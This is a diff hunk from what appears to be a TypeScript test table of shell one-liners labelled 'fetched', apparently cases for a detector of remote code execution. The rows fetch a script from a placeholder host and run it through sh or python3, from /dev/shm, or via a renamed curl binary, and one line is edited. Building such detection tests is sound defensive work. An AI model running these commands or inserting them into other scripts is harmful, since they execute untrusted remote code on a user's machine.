@@ -460,7 +460,7 @@ export const DOWNLOADS: readonly Row[] = [
     fetched,
   ],
   ['through a filter', 'curl -s -o job $WEB/job; cat job | sh', fetched],
-  ['to shared memory', 'curl -s $WEB/job > /dev/shm/job-$$; sh /dev/shm/job-$$; rm /dev/shm/job-$$', fetched],
+  ['to shared memory', 'curl -s $WEB/far > /dev/shm/job-$$; sh /dev/shm/job-$$; rm /dev/shm/job-$$', fetched],
   ['with the name that the server gives', 'curl -sOJL $WEB/job; chmod +x job; ./job', fetched],
   ['curl under another name', 'cp $(command -v curl) c; ./c -s $WEB/far | sh', fetched],
   ['curl | python', 'curl -s $WEB/job.py | python3', fetched],
